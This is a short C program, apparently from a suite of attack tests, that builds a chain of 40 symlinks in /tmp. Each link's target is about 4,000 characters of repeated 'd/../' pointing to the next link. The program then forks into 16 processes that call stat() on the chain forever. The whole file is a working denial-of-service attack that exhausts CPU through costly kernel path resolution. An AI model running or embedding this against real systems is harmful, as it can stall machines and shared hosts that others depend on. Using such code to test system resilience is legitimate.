/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Links that lead through links, each as long as a path may be. */
#include "attack.h"

#include <sys/stat.h>

int main(void)
{
    char target[4096];
    TRY(mkdir("/tmp/l", 0700));
    TRY(chdir("/tmp/l"));
    TRY(mkdir("d", 0700));
    for (int i = 0; i < 40; i++) {
        char name[16], *at = target;
        while (at < target + 4000)
            at += sprintf(at, "d/../");
        sprintf(at, "l%d", i + 1);
        sprintf(name, "l%d", i);
        TRY(symlink(target, name));
    }
    TRY(mkdir("l40", 0700));
    for (int i = 0; i < 4; i++)
        fork();
    for (;;) {
        struct stat stat_buf;
        stat("l0", &stat_buf);
        stat("l0/l1/l2/l3", &stat_buf);
    }
}
